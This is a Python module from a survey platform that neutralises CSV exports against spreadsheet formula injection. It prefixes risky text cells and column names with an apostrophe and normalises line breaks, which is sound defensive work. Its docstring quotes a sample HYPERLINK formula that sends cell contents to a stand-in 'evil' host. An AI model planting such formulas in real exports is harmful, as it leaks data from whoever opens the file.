"""CSV that a spreadsheet opens as data, never as formulas.

A free-text answer such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` becomes a live
formula when a statistician opens the export in Excel or LibreOffice. Following the OWASP
guidance on CSV injection, every text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text and hide. Numbers
(numeric columns, and numbers inside mixed columns) are never touched, so `-1.5` stays a
number. Every CSV the platform writes goes through `csv_text` (the service through
survey.kernel.spreadsheet, `python -m analysis` directly).

Line breaks inside text are written as `\n`: a bare carriage return is not quoted by Python's
csv writer when lines end in `\n`, so a reader that treats it as a line end would split the
row; `\r\n` and `\r` inside a cell become `\n` (the same text, one line-end convention).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "csv_text", "neutralise"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names cannot start a formula
    (vectorised per column)."""
    result = frame
    names = [_safe_name(name) for name in frame.columns]
    if names != list(frame.columns):
        result = frame.copy()
        result.columns = pd.Index(names)
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)  # new values cannot be put into its categories
        elif not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        try:
            first = column.str[:1]  # NaN for cells that are not text (numbers, None)
        except AttributeError:  # an object column without any text (all numbers, lists)
            continue
        risky = first.isin(FORMULA_STARTS).fillna(False).to_numpy(dtype=bool)
        broken = column.str.contains("\r", regex=False).fillna(False).to_numpy(dtype=bool)
        if not (risky.any() or broken.any()):
            continue
        if result is frame:
            result = frame.copy()
        text = column.astype("string")
        safe = column.where(~risky, "'" + text)
        if broken.any():
            lines = safe.astype("string").str.replace("\r\n", "\n").str.replace("\r", "\n")
            safe = safe.where(~broken, lines)
        result.isetitem(position, safe.to_numpy(dtype=object))
    return result


def _safe_name(name: object) -> object:
    if isinstance(name, str) and name.startswith(FORMULA_STARTS):
        return "'" + name
    return name


def csv_text(frame: pd.DataFrame, **options: Any) -> str:
    """`frame` as UTF-8 CSV text with `\\n` line ends and no index, formulas neutralised."""
    settings: dict[str, Any] = {"index": False, "lineterminator": "\n", **options}
    return str(neutralise(frame).to_csv(**settings))
